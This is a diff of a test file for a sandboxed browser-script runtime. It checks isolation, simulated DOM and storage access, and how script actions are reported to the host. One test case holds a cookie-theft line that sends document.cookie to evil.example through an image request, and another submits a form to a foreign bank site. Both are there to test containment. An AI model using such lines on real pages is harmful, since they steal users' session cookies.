@@ -1,7 +1,8 @@
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { CookieJar } from '../../../src/cookies/cookie-jar.ts';
-import type { FromRealm } from '../../../src/browser/script/protocol.ts';
-import { startInSandbox, type RunningScript } from '../../../src/browser/script/sandbox.ts';
+import type { FromRealm, RealmAnswer } from '../../../src/browser/script/protocol.ts';
+import type { RunningScript } from '../../../src/browser/script/running-script.ts';
+import { startInSandbox } from '../../../src/browser/script/sandbox.ts';
 
 const access = {
   url: 'https://shop.example/',
@@ -36,7 +37,30 @@ function start() {
   const stopped = new Promise<string>((resolve) => (stop = resolve));
   const script = startInSandbox(
     document,
-    { cookies: jar.all(), access },
+    {
+      cookies: {
+        cookies: jar.all(),
+        access,
+        thirdPartyCookies: 'allowed',
+        publicSuffixes: ['example'],
+      },
+      storage: { local: [['cart', '1']], session: [] },
+      url: access.url,
+      title: 'Shop',
+      body: [
+        { element: 'p', attributes: { id: 'greeting' }, children: ['Hello'] },
+        {
+          element: 'form',
+          attributes: { id: 'pay', action: '/pay', method: 'post' },
+          children: [
+            { element: 'input', attributes: { name: 'amount', value: '5' }, children: [] },
+          ],
+        },
+      ],
+      isSecureContext: true,
+      userAgent: 'Test/1.0',
+      languages: ['en'],
+    },
     {
       heard: (message) => {
         heard.push(message);
@@ -73,7 +97,10 @@ test('script sees the simulated cookie, writes it, and keeps what it declares', 
 test.each([
   ['the frame above', 'parent === self && top === self'],
   ['its opener', 'opener === null'],
-  ['real storage', 'typeof localStorage === "undefined" || localStorage.real === undefined'],
+  [
+    'real storage',
+    'localStorage.real === undefined && Object.keys(localStorage).join() === "cart"',
+  ],
   ['IndexedDB', 'typeof indexedDB === "undefined"'],
   ['caches', 'typeof caches === "undefined"'],
   ['XMLHttpRequest', 'typeof XMLHttpRequest === "undefined"'],
@@ -142,6 +169,91 @@ test('what it does to the prototypes stays with it, and does not give it the por
   expect(await evaluate('caught.length')).toBe('0');
   expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
   expect([1].map((number) => number)).toEqual([1]);
+});
+
+test.each([
+  ['its title', 'document.title', '"Shop"'],
+  ['its place', 'location.origin + location.pathname', '"https://shop.example/"'],
+  ['its language', 'navigator.language', '"en"'],
+  ['a text by id', 'document.getElementById("greeting").textContent', '"Hello"'],
+  ['a text by selector', 'document.querySelector("#greeting").textContent', '"Hello"'],
+  ['what is not there', 'document.querySelector("#nobody")', 'null'],
+  ['a form by its name', 'document.forms.pay.elements[0].value', '"5"'],
+  [
+    'what is kept',
+    'localStorage.getItem("cart") + localStorage.cart + localStorage.length',
+    '"111"',
+  ],
+  ['what it keeps', '(sessionStorage.setItem("a", 1), sessionStorage.a)', '"1"'],
+])('script of a page finds %s', async (_, text, answer) => {
+  const { evaluate } = start();
+  expect(await evaluate(text)).toBe(answer);
+});
+
+test.each([
+  [
+    'writing a text',
+    'document.getElementById("greeting").textContent = "Bye"',
+    { type: 'text-written', id: 'greeting', text: 'Bye' },
+  ],
+  ['going elsewhere', 'location = "/cart"', { type: 'navigate', url: '/cart', replace: false }],
+  ['going back', 'history.back()', { type: 'travel', distance: -1 }],
+  [
+    'keeping',
+    'localStorage.b = "2"',
+    { type: 'storage-set', storage: 'local', key: 'b', value: '2' },
+  ],
+  [
+    'forgetting',
+    'localStorage.removeItem("cart")',
+    { type: 'storage-removed', storage: 'local', key: 'cart' },
+  ],
+  [
+    'sending a form',
+    'document.forms.pay.amount; document.forms[0].elements[0].value = 9; document.forms.pay.submit()',
+    {
+      type: 'submit',
+      form: { action: 'https://shop.example/pay', method: 'post', entries: [['amount', '9']] },
+    },
+  ],
+  [
+    'sending a form of its own',
+    'const f = document.createElement("form"); f.action = "https://bank.example/x"; f.method = "post"; document.body.append(f); f.submit()',
+    { type: 'submit', form: { action: 'https://bank.example/x', method: 'post', entries: [] } },
+  ],
+  [
+    'loading a picture',
+    'new Image().src = "https://evil.example/" + document.cookie',
+    { type: 'asked', id: 1, question: { api: 'image', url: 'https://evil.example/theme=dark' } },
+  ],
+  ['alerting', 'alert("1")', { type: 'logged', level: 'info', text: 'alert: 1' }],
+])('%s is told to the browser', async (_, text, message) => {
+  const { evaluate, heard } = start();
+  await evaluate(text);
+  expect(heard).toContainEqual(message);
+});
+
+test('reading the cookies often is no flood', async () => {
+  const { evaluate, heard } = start();
+  await evaluate('for (let n = 0; n < 5000; n += 1) document.cookie');
+  expect(heard.filter(({ type }) => type === 'cookies-read')).toHaveLength(1);
+});
+
+test('fetch is answered by the browser, and refused as a browser refuses', async () => {
+  const { script, evaluate, heard } = start();
+  const answerNext = async (answer: RealmAnswer) => {
+    await expect.poll(() => heard.at(-1)?.type).toBe('asked');
+    const asked = heard.at(-1);
+    if (asked?.type === 'asked') script.send({ type: 'answer', id: asked.id, answer });
+  };
+  const text = evaluate('await fetch("/api").then(async (r) => `${r.status} ${await r.text()}`)');
+  const value = { type: 'basic', url: 'https://shop.example/api', redirected: false, status: 200 };
+  await answerNext({ ok: true, value: { ...value, fields: [], content: 'hi' } });
+  expect(await text).toBe('"200 hi"');
+  const refused = evaluate('fetch("https://bank.example/")');
+  await answerNext({ ok: false, exception: 'TypeError', message: 'Failed to fetch' });
+  expect(await refused).toBe('TypeError: Failed to fetch');
+  expect(await evaluate('fetch("/", { mode: "navigate" })')).toMatch(/^TypeError/);
 });
 
 test('the real page keeps what it has', async () => {
